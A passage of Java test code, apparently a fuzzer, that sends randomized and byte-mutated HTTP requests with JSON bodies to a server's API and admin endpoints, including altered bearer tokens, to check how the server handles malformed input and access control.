                faults.add(e.toString());
            } finally {
                close(kept);
            }
        }

        /** Its answer names a length and has no body. */
        private static boolean head(byte[] request) {
            return request[0] == 'H';
        }

        private static void close(Wire wire) {
            try {
                if (wire != null) {
                    wire.close();
                }
            } catch (IOException e) {
                // Nothing more is asked of it.
            }
        }

        private byte[] request() {
            boolean admin = random.nextInt(6) == 0;
            String path = admin ? "/admin/api" + pick(ADMIN) : API + pick(CALLS);
            byte[] body = body().getBytes(StandardCharsets.UTF_8);
            if (random.nextInt(4) == 0) {
                body = mutated(body);
            }
            StringBuilder head = new StringBuilder(pick(METHODS)).append(' ')
                    .append(path)
                    .append(" HTTP/1.1\r\nHost: a\r\n");
            if (random.nextInt(20) != 0) {
                head.append("Content-Type: ")
                        .append(pick(List.of("application/json", "application/json", "application/json",
                                "application/json; charset=utf-8", "text/plain", "a", "/")))
                        .append("\r\n");
            }
            if (admin && random.nextInt(3) != 0) {
                head.append("Authorization: Bearer ")
                        .append(pick(List.of(viewer, auditor, "x", "", nearlyIssued(), nearlyIssued())))
                        .append("\r\n");
            }
            if (random.nextInt(10) == 0) {
                head.append(pick(List.of("Accept: ", "User-Agent: ", "If-Match: ", "X-Forwarded-For: ", "Cookie: ")))
                        .append(printable())
                        .append("\r\n");
            }
            byte[] front = head.append("Content-Length: ")
                    .append(body.length)
                    .append("\r\n\r\n")
                    .toString()
                    .getBytes(
                            StandardCharsets.ISO_8859_1);
            byte[] whole = Arrays.copyOf(front, front.length + body.length);
            System.arraycopy(body, 0, whole, front.length, body.length);
            return whole;
        }

        /** A viewer's token of the issuer, or something like it. */
        private String nearlyIssued() {
            StringBuilder token = new StringBuilder(issued);
            for (int i = random.nextInt(4); i > 0; i--) {
                token.setCharAt(random.nextInt(token.length()), (char) (33 + random.nextInt(94)));
            }
            return token.toString();
        }

        private String body() {
            StringBuilder json = new StringBuilder("{");
            int fields = random.nextInt(6);
            for (int i = 0; i < fields; i++) {
                json.append(i == 0 ? "" : ",").append('"').append(pick(FIELDS)).append("\":").append(value(3));
            }
            return json.append('}').toString();
        }

        private String value(int depth) {
            return switch (random.nextInt(depth == 0 ? 9 : 11)) {
                case 0 -> "null";
                case 1 -> "true";
                case 2 -> Long.toString(random.nextLong());
                case 3 -> Double.toString(random.nextGaussian() * Math.pow(10, random.nextInt(300)));
                case 4 -> "\"" + printable().replace("\\", "").replace("\"", "") + "\"";
                case 5 -> "\"\\u" + "%04x".formatted(random.nextInt(65_536)) + "\"";
                case 6 -> "\"http://f" + random.nextInt(50) + ".example\"";
                case 7 -> "\"" + TokenHash.ofToken("f" + random.nextInt(50)).text() + "\"";
                case 8 ->
                        "\"" + pick(List.of("active", "suspended", "skip", "orders", "t", "sender", "1", "-1")) + "\"";
                case 9 -> "[" + value(depth - 1) + "," + value(depth - 1) + "]";
                default -> "{\"" + pick(FIELDS) + "\":" + value(depth - 1) + "}";
            };
        }

        private String printable() {
            StringBuilder text = new StringBuilder();
            int length = random.nextInt(30);
            for (int i = 0; i < length; i++) {
                text.append((char) (32 + random.nextInt(95)));
            }
            return text.toString();
        }

        /** Bytes changed, left out, doubled, or put in. */
        private byte[] mutated(byte[] bytes) {
            byte[] out = bytes.clone();
            int changes = 1 + random.nextInt(4);
            for (int i = 0; i < changes && out.length > 1; i++) {
                int at = random.nextInt(out.length);
                switch (random.nextInt(4)) {
                    case 0 -> out[at] = (byte) random.nextInt(256);
                    case 1 -> out = Arrays.copyOf(out, at);
                    case 2 -> out[at] ^= (byte) (1 << random.nextInt(8));
                    default -> {
                        int length = Math.min(random.nextInt(20), out.length - at);
                        byte[] more = Arrays.copyOf(out, out.length + length);
                        System.arraycopy(out, at, more, at + length, out.length - at);
                        out = more;
                    }
                }
            }
            return out;
        }

        private String pick(List<String> from) {
            return from.get(random.nextInt(from.size()));
        }
    }
}
